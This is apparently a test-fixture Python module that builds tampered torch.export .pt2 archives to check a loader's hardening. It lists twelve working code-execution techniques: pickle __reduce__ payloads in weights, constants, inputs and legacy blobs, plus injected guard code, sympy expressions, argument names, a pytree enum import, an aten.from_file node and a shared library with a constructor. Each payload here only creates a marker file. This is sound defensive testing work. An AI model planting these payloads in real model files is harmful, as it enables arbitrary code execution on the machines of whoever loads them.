"""Hostile `torch.export` archives for the loader's tests: each is a real `.pt2` that
`torch.export.save` wrote, copied record by record with torch's own archive writer, with one
thing planted that makes `torch.export.load` (torch 2.13) create `marker` when the file is loaded
or its module built or run. Creating a file stands for any code: the payloads run Python.

Adapted from the research notes of the hardening issue (second round, item 1).
"""

from __future__ import annotations

import io
import json
import operator
import shutil
import subprocess
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

MODEL = "model"
_AUTO_RECORDS = {".data/version", ".data/serialization_id", "byteorder"}  # the writer adds them


class _CreateFile:
    """Unpickling this opens `path` for writing (creating it) and evaluates to `value`, so the
    load goes on with the genuine object: the victim sees a model that works."""

    def __init__(self, path: str, value: Any) -> None:
        self.path, self.value = path, value

    def __reduce__(self) -> Any:
        return (operator.getitem, ((_Open(self.path), self.value), 1))


class _Open:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return (open, (self.path, "w"))


def _pickled(obj: Any) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def _python(marker: Path) -> str:
    """A Python expression that creates `marker` and is 0."""
    return f"len(open({str(marker)!r}, 'w').name)*0"


def _records(good: Path) -> dict[str, bytes]:
    from torch.export.pt2_archive._package import PT2ArchiveReader

    with PT2ArchiveReader(str(good)) as reader:
        return {n: reader.read_bytes(n) for n in reader.get_file_names() if n not in _AUTO_RECORDS}


def _write(evil: Path, records: dict[str, bytes]) -> Path:
    from torch.export.pt2_archive._package import PT2ArchiveWriter

    evil.unlink(missing_ok=True)
    with PT2ArchiveWriter(str(evil)) as writer:
        for name, data in records.items():
            writer.write_bytes(name, data)
    return evil


def _state_dict(good: Path) -> dict[str, Any]:
    import torch
    from torch.export.pt2_archive._package import PT2ArchiveReader, _load_state_dict

    with PT2ArchiveReader(str(good)) as reader:
        loaded = _load_state_dict(reader, MODEL)
    assert isinstance(loaded, dict)
    return {
        k: torch.nn.Parameter(v.detach().clone(), v.requires_grad)
        if isinstance(v, torch.nn.Parameter)
        else v.detach().clone()
        for k, v in loaded.items()
    }


def _edit_program(good: Path, evil: Path, edit: Callable[[dict[str, Any]], None]) -> Path:
    records = _records(good)
    program = json.loads(records[f"models/{MODEL}.json"])
    edit(program)
    records[f"models/{MODEL}.json"] = json.dumps(program).encode()
    return _write(evil, records)


def pickled_weight(good: Path, evil: Path, marker: Path) -> Path:
    """A weight marked `use_pickle`: torch.load(weights_only=False) as the file loads. The
    issue's case."""
    records = _records(good)
    config_name = f"data/weights/{MODEL}_weights_config.json"
    config = json.loads(records[config_name])
    fqn, meta = next(iter(config["config"].items()))
    meta["use_pickle"] = True
    records[config_name] = json.dumps(config).encode()
    genuine = _state_dict(good)[fqn]
    records[f"data/weights/{meta['path_name']}"] = _pickled(_CreateFile(str(marker), genuine))
    return _write(evil, records)


def _extra_constant(good: Path, evil: Path, path_name: str, payload: bytes) -> Path:
    records = _records(good)
    config_name = f"data/constants/{MODEL}_constants_config.json"
    config = json.loads(records[config_name])
    config["config"]["evil"] = {"path_name": path_name, "is_param": False, "use_pickle": True,
                                "tensor_meta": None}  # fmt: skip
    records[config_name] = json.dumps(config).encode()
    records[f"data/constants/{path_name}"] = payload
    return _write(evil, records)


def pickled_constant(good: Path, evil: Path, marker: Path) -> Path:
    """A tensor constant marked `use_pickle` (every entry is loaded, used or not)."""
    import torch

    payload = _pickled(_CreateFile(str(marker), torch.zeros(1)))
    return _extra_constant(good, evil, "tensor_constant_evil", payload)


def opaque_constant(good: Path, evil: Path, marker: Path) -> Path:
    """An `opaque_obj_` constant: plain pickle.loads, whatever its flags say."""
    import pickle

    import torch

    payload = pickle.dumps(_CreateFile(str(marker), torch.zeros(1)))
    return _extra_constant(good, evil, "opaque_obj_0", payload)


def sample_inputs(good: Path, evil: Path, marker: Path) -> Path:
    """Sample inputs that the weights_only unpickler refuses, so torch falls back to full
    pickle."""
    import torch

    records = _records(good)
    name = f"data/sample_inputs/{MODEL}.pt"
    genuine = torch.load(io.BytesIO(records[name]), weights_only=True)
    records[name] = _pickled(_CreateFile(str(marker), genuine))
    return _write(evil, records)


def legacy_weights(good: Path, evil: Path, marker: Path) -> Path:
    """The legacy `data/weights/model.pt` blob (weights_only, then the full-pickle fallback)."""
    records = _records(good)
    records[f"data/weights/{MODEL}.pt"] = _pickled(_CreateFile(str(marker), _state_dict(good)))
    return _write(evil, records)


def legacy_zip(good: Path, evil: Path, marker: Path) -> Path:
    """The pre-2.8 layout, which torch.export.load falls back to when the pt2 reader fails:
    its constants blob goes through the same full-pickle fallback."""
    from torch._export.serde.schema import SCHEMA_VERSION

    records = _records(good)
    evil.unlink(missing_ok=True)
    with zipfile.ZipFile(evil, "w") as z:
        z.writestr("version", ".".join(map(str, SCHEMA_VERSION)))
        z.writestr("serialized_exported_program.json", records[f"models/{MODEL}.json"])
        z.writestr("serialized_constants.pt", _pickled(_CreateFile(str(marker), {})))
        z.writestr("serialized_state_dict.pt", _pickled(_state_dict(good)))
        z.writestr("serialized_example_inputs.pt", records[f"data/sample_inputs/{MODEL}.pt"])
    return evil


def guards(good: Path, evil: Path, marker: Path) -> Path:
    """A guard, exec'd by ExportedProgram.module() and run on every call."""

    def edit(program: dict[str, Any]) -> None:
        program["guards_code"] = [f"{_python(marker)} == 0"]

    return _edit_program(good, evil, edit)


def sympy_size(good: Path, evil: Path, marker: Path) -> Path:
    """A tensor size written as a symbolic expression, which sympy.sympify evals."""

    def edit(program: dict[str, Any]) -> None:
        values = program["graph_module"]["graph"]["tensor_values"]
        sizes = values[next(iter(values))]["sizes"]
        size = sizes[0]["as_int"]
        sizes[0] = {"as_expr": {"expr_str": f"{_python(marker)}+{size}", "hint": {"as_int": size}}}

    return _edit_program(good, evil, edit)


def argument_name(good: Path, evil: Path, marker: Path) -> Path:
    """An argument name that fx pastes into `def forward(...)` twice: a triple quote across
    both copies turns the second into a default value that runs when the module is built."""

    def edit(program: dict[str, Any]) -> None:
        signature = program["graph_module"]["module_call_graph"][0]["signature"]
        injected = 'x="""' + f", y={_python(marker)}):\n    z=((["
        signature["forward_arg_names"] = [injected, *signature["forward_arg_names"][1:]]

    return _edit_program(good, evil, edit)


def pytree_import(good: Path, evil: Path, marker: Path) -> Path:
    """A pytree context naming an enum in a module beside the marker (the working folder of a
    command run there is on sys.path), which torch imports to find the enum."""
    module = f"evil_enum_{marker.stem}"
    (marker.parent / f"{module}.py").write_text(
        f"import enum\nopen({str(marker)!r}, 'w').close()\nclass E(enum.Enum):\n    A = 1\n"
    )

    def edit(program: dict[str, Any]) -> None:
        signature = program["graph_module"]["module_call_graph"][0]["signature"]
        spec = json.loads(signature["out_spec"])
        context = json.dumps({"__enum__": True, "fqn": f"{module}:E", "name": "A"})
        leaf = {"type": None, "context": None, "children_spec": []}
        spec[1] = {"type": "builtins.tuple", "context": context, "children_spec": [leaf]}
        signature["out_spec"] = json.dumps(spec)

    return _edit_program(good, evil, edit)


def file_op(good: Path, evil: Path, marker: Path) -> Path:
    """No Python at all: `aten.from_file(marker, shared=True)`, which creates the file when
    the program runs (a shared mapping writes through to it)."""

    def edit(program: dict[str, Any]) -> None:
        graph = program["graph_module"]["graph"]
        graph["tensor_values"]["evil"] = {
            "dtype": 1, "sizes": [{"as_int": 1}], "requires_grad": False,
            "device": {"type": "cpu", "index": None}, "strides": [{"as_int": 1}],
            "storage_offset": {"as_int": 0}, "layout": 7,
        }  # fmt: skip
        graph["nodes"].insert(0, {
            "target": "torch.ops.aten.from_file.default", "name": "evil",
            "inputs": [{"name": "filename", "arg": {"as_string": str(marker)}, "kind": 1},
                       {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
                       {"name": "size", "arg": {"as_int": 1}, "kind": 1}],
            "outputs": [{"as_tensor": {"name": "evil"}}], "metadata": {},
            "is_hop_single_tensor_return": None,
        })  # fmt: skip

    return _edit_program(good, evil, edit)


def native_library(good: Path, evil: Path, marker: Path) -> Path:
    """An AOTInductor record: torch.export.load dlopens the shipped library, whose
    constructor runs first. Needs a C compiler to make."""
    compiler = shutil.which("cc") or shutil.which("gcc")
    assert compiler, "no C compiler"
    records = _records(good)
    with tempfile.TemporaryDirectory() as tmp:
        source, library = Path(tmp) / "evil.c", Path(tmp) / "evil.so"
        source.write_text(
            "#include <stdio.h>\n__attribute__((constructor)) static void run(void) "
            f'{{ fclose(fopen("{marker}", "w")); }}\n'
        )
        subprocess.run([compiler, "-shared", "-fPIC", "-o", str(library), str(source)], check=True)
        records[f"data/aotinductor/{MODEL}/evil.so"] = library.read_bytes()
    meta = json.dumps({"AOTI_DEVICE_KEY": "cpu"}).encode()
    records[f"data/aotinductor/{MODEL}/evil_metadata.json"] = meta
    records[f"data/aotinductor/{MODEL}/evil.wrapper_metadata.json"] = meta
    return _write(evil, records)


MAKERS: dict[str, Callable[[Path, Path, Path], Path]] = {
    "pickled weight": pickled_weight,
    "pickled constant": pickled_constant,
    "opaque constant": opaque_constant,
    "sample inputs": sample_inputs,
    "legacy weights": legacy_weights,
    "legacy zip": legacy_zip,
    "guard": guards,
    "sympy size": sympy_size,
    "argument name": argument_name,
    "pytree import": pytree_import,
    "file op": file_op,
    "native library": native_library,
}
